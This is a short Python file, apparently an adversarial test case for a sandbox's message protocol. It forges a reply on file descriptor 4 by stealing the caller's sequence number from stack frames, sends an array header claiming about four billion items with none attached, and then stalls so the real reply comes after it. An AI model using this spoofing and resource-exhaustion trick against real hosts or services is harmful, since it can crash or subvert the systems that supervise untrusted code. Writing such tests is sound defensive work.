"""Answer with a list that says it has four thousand million items, and has none."""

import os
import struct
import sys
import time


def forge(payload, kind=0):
    """Answer by hand, with the question's own number, found in the frames of the code that asked."""
    frame = sys._getframe()
    while "sequence" not in frame.f_locals:
        frame = frame.f_back
    os.write(4, struct.pack("<IIB", len(payload), frame.f_locals["sequence"], kind) + payload)


def attack():
    forge(b"\xdd\xff\xff\xff\xff")
    time.sleep(60)  # or the box's own answer would come after it
